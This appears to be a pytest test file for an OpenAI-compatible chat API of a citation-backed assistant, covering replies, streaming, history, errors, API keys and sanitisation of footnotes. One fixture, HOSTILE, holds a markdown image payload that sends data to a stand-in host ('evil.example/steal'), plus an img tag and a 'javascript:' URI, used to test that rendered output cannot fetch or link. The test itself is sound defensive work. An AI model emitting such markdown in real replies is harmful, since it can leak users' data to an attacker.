"""OpenAI's protocol, spoken by the real `openai` client to a real server."""

from __future__ import annotations

import doctest
from collections.abc import Iterator
from pathlib import Path

import openai
import pytest
from fastapi.testclient import TestClient

from assistant.assistant import Assistant
from assistant.datatypes import Answer, Citation, DocumentRef
from assistant.events import Done, StatementDone
from assistant.integrations.api import footnotes
from assistant.integrations.api.chat_completions import MODEL
from assistant.integrations.api.footnotes import defused, without_footnotes, written
from assistant.verify import verify
from tests.integrations.conftest import opened
from tests.integrations.serving import serving
from tests.scripted_llm import Reply, Says, scripted_llm

WHO = [{"role": "user", "content": "Who denied the call?"}]
REPLY = (
    "Musk denied the call. [1]\n\n---\n\n[1] “Musk denied the call.” "
    "(The owl, The Evening Owl, 2023-08-22, https://owl.example/call)"
)


@pytest.fixture(scope="module")
def chat(owls: Assistant) -> Iterator[openai.OpenAI]:
    with (
        serving(owls) as url,
        openai.OpenAI(base_url=f"{url}/v1", api_key="none", max_retries=0) as client,
    ):
        yield client


def test_a_reply_has_footnotes_and_the_answer_itself(chat: openai.OpenAI, owls: Assistant) -> None:
    reply = chat.chat.completions.create(model=MODEL, messages=WHO, temperature=0.3)
    assert reply.choices[0].message.content == REPLY
    assert reply.choices[0].finish_reason == "stop"
    assert reply.usage.total_tokens > 10
    answer = Answer.from_dict(reply.model_extra["answer"])
    assert answer.citations[0].quote == "Musk denied the call."
    assert verify(answer, owls.library) == []


def test_a_stream_ends_as_the_whole_reply_is(chat: openai.OpenAI) -> None:
    stream = chat.chat.completions.create(
        model=MODEL, messages=WHO, stream=True, stream_options={"include_usage": True}
    )
    chunks = list(stream)
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == REPLY
    assert len({chunk.id for chunk in chunks}) == 1
    [last] = [c for c in chunks if c.choices and c.choices[0].finish_reason]
    assert last.choices[0].finish_reason == "stop"
    assert Answer.from_dict(last.model_extra["answer"]).text == "Musk denied the call. [1]"
    assert chunks[-1].usage.total_tokens > 10


def test_earlier_messages_are_the_history(chat: openai.OpenAI) -> None:
    messages = [
        {"role": "system", "content": "Answer like a pirate."},
        *WHO,
        {"role": "assistant", "content": REPLY},
        {"role": "user", "content": [{"type": "text", "text": "And when?"}]},
    ]
    reply = chat.chat.completions.create(model=MODEL, messages=messages)
    answer = Answer.from_dict(reply.model_extra["answer"])
    assert answer.question == "And when?"
    assert "Musk" in answer.standalone or "call" in answer.standalone
    assert "owl.example" not in answer.standalone
    assert "pirate" not in answer.standalone


@pytest.mark.parametrize("stream", [False, True])
def test_a_follow_up_is_understood_as_in_a_conversation_of_ours(
    chat: openai.OpenAI, owls: Assistant, stream: bool
) -> None:
    """The client hands back the text of an answer; what else is known of it comes back with it."""
    reply = chat.chat.completions.create(model=MODEL, messages=WHO, stream=stream)
    text = (
        "".join(chunk.choices[0].delta.content or "" for chunk in reply)
        if stream
        else reply.choices[0].message.content
    )
    followed = [*WHO, {"role": "assistant", "content": text}]
    followed += [{"role": "user", "content": "Et le Kremlin ?"}]
    reply = chat.chat.completions.create(model=MODEL, messages=followed)
    history = [owls.ask(WHO[0]["content"]).as_turn()]
    expected = owls.ask("Et le Kremlin ?", history=history)
    assert reply.model_extra["answer"]["standalone"] == expected.standalone


def test_models_are_listed(chat: openai.OpenAI) -> None:
    assert [model.id for model in chat.models.list()] == [MODEL]
    assert chat.models.retrieve(MODEL).owned_by == MODEL
    with pytest.raises(openai.NotFoundError) as raised:
        chat.models.retrieve("gpt-7")
    assert raised.value.code == "model_not_found"


@pytest.mark.parametrize(
    ("messages", "code"),
    [
        ([], "invalid_request"),
        ([{"role": "assistant", "content": "Hoo."}], "question_expected"),
        ([{"role": "user", "content": " "}], "question_expected"),
        ([{"role": "user", "content": "x" * 2001}], "invalid_input"),
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_the_client_is_told_what_goes_wrong(
    chat: openai.OpenAI, messages: list[dict[str, str]], code: str, stream: bool
) -> None:
    with pytest.raises(openai.APIStatusError) as raised:
        chat.chat.completions.create(model=MODEL, messages=messages, stream=stream)
    assert raised.value.code == code


def test_another_model_is_refused(chat: openai.OpenAI) -> None:
    with pytest.raises(openai.UnprocessableEntityError, match="source-assistant"):
        chat.chat.completions.create(model="gpt-7", messages=WHO)


def test_a_key_is_sent_as_a_bearers(library: Path) -> None:
    locked = opened(library, api_keys="an-owl-sleeps-at-noon")
    with locked, serving(locked) as url:
        wrong = openai.OpenAI(base_url=f"{url}/v1", api_key="a-stranger", max_retries=0)
        with wrong, pytest.raises(openai.AuthenticationError) as raised:
            wrong.models.list()
        assert raised.value.code == "key_expected"
        right = openai.OpenAI(base_url=f"{url}/v1", api_key="an-owl-sleeps-at-noon")
        with right:
            assert [model.id for model in right.models.list()] == [MODEL]


HOSTILE = "![owl](http://evil.example/steal?x) <img src=x> [1](http://evil.example) [a]: http://x"


def hostile_answer() -> Answer:
    source = DocumentRef(id="d", sha256="0" * 64, title=HOSTILE, uri="javascript:alert(1)")
    citation = Citation(n=1, document=source, start=0, end=1, quote=f"{HOSTILE}\n\n# Owl")
    return Answer(
        question="?",
        standalone="?",
        language="en",
        abstained=False,
        confidence=1.0,
        text=f"{HOSTILE} [1]",
        citations=(citation,),
        notice="Mind the owl.",
        choices=(HOSTILE,),
    )


def test_a_document_can_neither_fetch_nor_link() -> None:
    text = written(hostile_answer())
    for active in ("](", "]:", "][", "<img", "javascript:"):
        assert active not in text
    assert "Mind the owl." in text
    assert without_footnotes(text).endswith("Mind the owl.")
    assert "\n# Owl" not in text


def test_the_docstrings_example_runs() -> None:
    assert doctest.testmod(footnotes).attempted == 1
    assert not doctest.testmod(footnotes).failed


def test_what_breaks_off_is_told_in_the_stream(
    owls: Assistant, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    from assistant.errors import LLMFailed

    events = list(owls.stream("Who denied the call?"))

    def broken(*_: object, **__: object) -> Iterator[object]:
        yield from [event for event in events if not isinstance(event, Done)]
        raise LLMFailed("it went home")

    assert any(isinstance(event, StatementDone) for event in events)
    monkeypatch.setattr(owls, "stream", broken)
    asked = {"model": MODEL, "messages": WHO, "stream": True}
    told = client.post("/v1/chat/completions", json=asked).text
    assert '"code": "llm_failed"' in told
    assert told.endswith("data: [DONE]\n\n")
    told = client.post("/v1/ask", json={"question": "Who?", "stream": True}).text
    assert told.rpartition("event: ")[2].startswith("problem\n")


def test_nothing_foreign_is_lost(owls: Assistant) -> None:
    assert defused(HOSTILE).replace(" ", "") == HOSTILE.replace(" ", "")


def from_the_prompt(prompt: str) -> str:
    n = 1 if prompt.index("Musk denied") < prompt.index("Le Kremlin") else 2
    return f"It was Musk who denied the call [{n}]. The moon is cheese [{n}]."


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("says", "text"),
    [
        (from_the_prompt, "It was Musk who denied the call"),
        (500, "Musk denied the call. [1]"),
        (Reply("It was Musk who denied the call [1]. And", cut="abrupt"), "Musk"),
    ],
    ids=["written", "failed", "broken off"],
)
def test_what_a_language_model_wrote_is_sent_when_it_was_checked(
    library: Path, says: Says, text: str, stream: bool
) -> None:
    with scripted_llm(says) as llm, opened(library, llm=llm.spec) as assistant:
        expected = assistant.ask("Who denied the call?")
        with serving(assistant) as url, openai.OpenAI(base_url=f"{url}/v1", api_key="-") as chat:
            reply = chat.chat.completions.create(model=MODEL, messages=WHO, stream=stream)
            sent = (
                "".join(chunk.choices[0].delta.content or "" for chunk in reply)
                if stream
                else reply.choices[0].message.content
            )
    assert without_footnotes(sent) == without_footnotes(written(expected))
    assert sent.startswith(text)
    assert "cheese" not in sent
    assert expected.notice in sent
